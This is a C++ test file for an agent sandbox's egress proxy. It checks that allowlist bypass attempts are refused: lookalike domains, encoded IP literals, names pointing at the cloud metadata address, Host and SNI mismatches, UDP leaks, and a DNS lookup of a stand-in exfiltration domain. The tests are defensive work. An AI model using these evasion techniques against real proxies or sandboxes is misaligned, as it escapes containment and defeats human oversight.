// SECURITY.md T6 (network), the allowlist mode as a box sees it, without a whole box: the test
// binary runs in a network namespace and mount namespace of its own (its "host": a loopback
// where local servers take ports 80 and 443, and an /etc/hosts of the test's choosing for the
// system resolver), the box side is a second network namespace with only `lo` and the proxy's
// listener at 127.0.0.1:3128, and box commands run as an unprivileged uid (the session user has
// no capabilities). Policy: ["example.test", "*.pkg.test"], as in SECURITY.md.
#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <net/if.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>

#include "net/net_fixture.h"

namespace agentbox::net::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::StartsWith;

constexpr uid_t kBoxUid = 65534;

// The whole binary in its own network and mount namespaces (set up before any thread exists).
class OwnNamespaces : public ::testing::Environment {
 public:
  void SetUp() override {
    ASSERT_EQ(unshare(CLONE_NEWNET | CLONE_NEWNS), 0) << strerror(errno);
    ASSERT_EQ(mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr), 0) << strerror(errno);
    UniqueFd s(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
    ifreq ifr{};
    strncpy(ifr.ifr_name, "lo", IFNAMSIZ - 1);
    ASSERT_EQ(ioctl(s.get(), SIOCGIFFLAGS, &ifr), 0);
    ifr.ifr_flags |= IFF_UP;
    ASSERT_EQ(ioctl(s.get(), SIOCSIFFLAGS, &ifr), 0);
    // Names the system resolver (not network.hosts) maps to refused addresses: what a hostile
    // or split-horizon DNS would answer for an allowed name.
    hosts_ = std::make_unique<TempDir>();
    const std::string f = hosts_->path() + "/hosts";
    std::ofstream(f)
        << "127.0.0.1 localhost\n127.0.0.2 lo.pkg.test\n169.254.169.254 meta.pkg.test\n"
           "10.1.2.3 ten.pkg.test\nfd00::1 ula.pkg.test\n";
    ASSERT_EQ(mount(f.c_str(), "/etc/hosts", nullptr, MS_BIND, nullptr), 0) << strerror(errno);
  }
  void TearDown() override {
    umount2("/etc/hosts", MNT_DETACH);
    hosts_.reset();
  }

 private:
  std::unique_ptr<TempDir> hosts_;
};

const auto* const kEnv = ::testing::AddGlobalTestEnvironment(new OwnNamespaces);

class T6AllowlistTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    certs_ = new TempDir;
    make_cert(certs_->path(), {"example.test", "files.pkg.test"});
    chmod(certs_->path().c_str(), 0755);  // the box's curl runs as the session user
    http_ = new LocalServer("allowed-http", "", 80);
    https_ = new LocalServer("allowed-tls", certs_->path(), 443);
  }
  static void TearDownTestSuite() {
    delete https_;
    delete http_;
    delete certs_;
  }
  T6AllowlistTest()
      : h_({"example.test", "*.pkg.test"},
           {{"example.test", "127.0.0.1"}, {"files.pkg.test", "127.0.0.1"}}) {}

  // curl in the box as the session user; returns body + "\n<http_code> <http_connect>".
  std::string curl(const std::string& u, std::vector<std::string> extra = {}) {
    std::vector<std::string> argv = {"curl",       "-sS",
                                     "--max-time", "30",
                                     "--noproxy",  "",
                                     "-x",         "http://127.0.0.1:3128",
                                     "-w",         "\n%{http_code} %{http_connect}",
                                     "--cacert",   certs_->path() + "/cert.pem"};
    argv.insert(argv.end(), extra.begin(), extra.end());
    argv.push_back(u);
    auto r = run_in_netns(h_.netns(), argv, kBoxUid);
    return r.out + (r.out.empty() ? r.err : "");
  }
  std::string raw(const std::string& request) {
    UniqueFd fd = connect_in_netns(h_.netns(), 3128);
    return fd ? roundtrip(fd.get(), request) : "no connection";
  }
  std::string connect(const std::string& authority) {
    return raw("CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n\r\n");
  }

  static TempDir* certs_;
  static LocalServer* http_;
  static LocalServer* https_;
  ProxyHarness h_;
};
TempDir* T6AllowlistTest::certs_ = nullptr;
LocalServer* T6AllowlistTest::http_ = nullptr;
LocalServer* T6AllowlistTest::https_ = nullptr;

TEST_F(T6AllowlistTest, AllowedNamesPassAlsoSpelledOtherwise) {
  EXPECT_EQ(curl("http://example.test/a"), "allowed-http got GET /a Host=example.test\n\n200 000");
  EXPECT_EQ(curl("http://EXAMPLE.test./b"), "allowed-http got GET /b Host=example.test\n\n200 000");
  EXPECT_EQ(curl("https://files.pkg.test/c"),
            "allowed-tls got GET /c Host=files.pkg.test\n\n200 200");
  EXPECT_EQ(curl("https://example.test/d"), "allowed-tls got GET /d Host=example.test\n\n200 200");
}

TEST_F(T6AllowlistTest, LookalikesAndIpLiteralsAreBlocked) {
  for (const std::string n : {"pkg.test", "evil-pkg.test", "pkg.test.evil.test",
                              "example.test.evil.test", "evil-example.test", "sub.example.test"}) {
    EXPECT_EQ(curl("http://" + n + "/"),
              "agentbox proxy: " + n + " is not in the allowlist\n\n403 000");
    EXPECT_THAT(connect(n + ":443"), StartsWith("HTTP/1.1 403 Forbidden")) << n;
  }
  for (const std::string ip :
       {"127.0.0.1", "127.1", "0x7f.0.0.1", "2130706433", "[::ffff:127.0.0.1]", "[::1]"}) {
    const std::string out = connect(ip + ":443");
    EXPECT_THAT(out, StartsWith("HTTP/1.1 403 Forbidden")) << ip;
    EXPECT_THAT(out, HasSubstr("is not in the allowlist")) << ip;
    EXPECT_THAT(curl("http://" + ip + "/"), HasSubstr("\n403 000")) << ip;
  }
  EXPECT_EQ(http_->log().find("evil"), std::string::npos);
}

TEST_F(T6AllowlistTest, AllowedNamesResolvingToRefusedAddressesAreRefusedAfterResolving) {
  const std::pair<const char*, const char*> cases[] = {
      {"lo.pkg.test", "resolves to 127.0.0.2, a loopback (127.0.0.0/8) address"},
      {"meta.pkg.test",
       "resolves to 169.254.169.254, a link-local/metadata (169.254.0.0/16) address"},
      {"ten.pkg.test", "resolves to 10.1.2.3, a private (10.0.0.0/8) address"},
      {"ula.pkg.test", "resolves to fd00::1, a private (fc00::/7) address"},
  };
  for (const auto& [name, why] : cases) {
    EXPECT_EQ(curl(std::string("http://") + name + "/"),
              std::string("agentbox proxy: ") + name + " " + why + "\n\n403 000");
    EXPECT_THAT(connect(std::string(name) + ":443"), HasSubstr(std::string(name) + " " + why));
  }
}

TEST_F(T6AllowlistTest, TunnelToAnAllowedNameCarriesOtherSniOrHostOnlyToIt) {
  // CONNECT files.pkg.test:443, then TLS with SNI other.test: it is the allowed server that
  // answers (curl -k: the certificate does not name other.test).
  EXPECT_EQ(
      curl("https://other.test/sni", {"-k", "--connect-to", "other.test:443:files.pkg.test:443"}),
      "allowed-tls got GET /sni Host=other.test\n\n200 200");
  // Plain HTTP with a foreign Host header: refused.
  const std::string r = raw("GET http://example.test/x HTTP/1.1\r\nHost: other.test\r\n\r\n");
  EXPECT_THAT(r, StartsWith("HTTP/1.1 403 Forbidden"));
  EXPECT_THAT(r, HasSubstr("Host header \"other.test\" does not match example.test"));
}

TEST_F(T6AllowlistTest, PortsOutsideThePolicyAreBlocked) {
  EXPECT_THAT(connect("example.test:22"),
              HasSubstr("port 22 of example.test is not in the allowlist"));
  EXPECT_EQ(curl("http://example.test:8080/"),
            "agentbox proxy: port 8080 of example.test is not in the allowlist\n\n403 000");
}

TEST_F(T6AllowlistTest, NothingButTheProxyLeavesTheBox) {
  // UDP (QUIC, DNS) to anywhere: no route. DNS of a non-allowed name: no resolver reachable.
  const char* kUdp =
      "import socket,errno\n"
      "for dst in [('192.0.2.1',443),('192.0.2.1',53),('10.0.0.1',53)]:\n"
      "  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
      "  try: s.sendto(b'x',dst); print('SENT')\n"
      "  except OSError as e: print(errno.errorcode[e.errno])\n"
      "try: socket.getaddrinfo('secret-data.exfil.test',443); print('RESOLVED')\n"
      "except OSError as e: print('NORESOLVE')\n";
  auto r = run_in_netns(h_.netns(), {"python3", "-c", kUdp}, kBoxUid);
  EXPECT_EQ(r.out, "ENETUNREACH\nENETUNREACH\nENETUNREACH\nNORESOLVE\n") << r.err;
  // The host's loopback is not the box's: a UDP listener on the host never hears the box.
  UniqueFd host_udp(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(host_udp.get(), reinterpret_cast<sockaddr*>(&sa), sizeof sa), 0);
  socklen_t len = sizeof sa;
  getsockname(host_udp.get(), reinterpret_cast<sockaddr*>(&sa), &len);
  const std::string port = std::to_string(ntohs(sa.sin_port));
  auto u = run_in_netns(h_.netns(),
                        {"python3", "-c",
                         "import socket;socket.socket(socket.AF_INET,socket.SOCK_DGRAM)"
                         ".sendto(b'leak',('127.0.0.1'," +
                             port + "));print('sent')"},
                        kBoxUid);
  EXPECT_EQ(u.out, "sent\n");
  char buf[16];
  EXPECT_EQ(recv(host_udp.get(), buf, sizeof buf, 0), -1);
  EXPECT_EQ(errno, EAGAIN);
  // Direct TCP to the host's servers: the box's 127.0.0.1:80 is its own, empty loopback.
  auto t =
      run_in_netns(h_.netns(), {"curl", "-sS", "--noproxy", "*", "http://127.0.0.1:80/"}, kBoxUid);
  EXPECT_EQ(t.exit_code, 7) << t.err;  // CURLE_COULDNT_CONNECT
  EXPECT_THAT(t.err, HasSubstr("Failed to connect to 127.0.0.1 port 80"));
}

TEST_F(T6AllowlistTest, TheSessionUserCannotChangeTheNetwork) {
  auto route =
      run_in_netns(h_.netns(), {"ip", "route", "add", "192.0.2.0/24", "dev", "lo"}, kBoxUid);
  EXPECT_NE(route.exit_code, 0);
  EXPECT_THAT(route.err, HasSubstr("Operation not permitted"));
  auto lo = run_in_netns(h_.netns(), {"ip", "link", "set", "lo", "down"}, kBoxUid);
  EXPECT_NE(lo.exit_code, 0);
  EXPECT_THAT(lo.err, HasSubstr("Operation not permitted"));
  auto rawsock = run_in_netns(
      h_.netns(),
      {"python3", "-c",
       "import socket\n"
       "try: socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP); print('RAW')\n"
       "except PermissionError: print('EPERM')\n"},
      kBoxUid);
  EXPECT_EQ(rawsock.out, "EPERM\n") << rawsock.err;
  // The proxy still serves after all that.
  EXPECT_THAT(curl("http://example.test/after"), HasSubstr("\n200 "));
}

}  // namespace
}  // namespace agentbox::net::testing
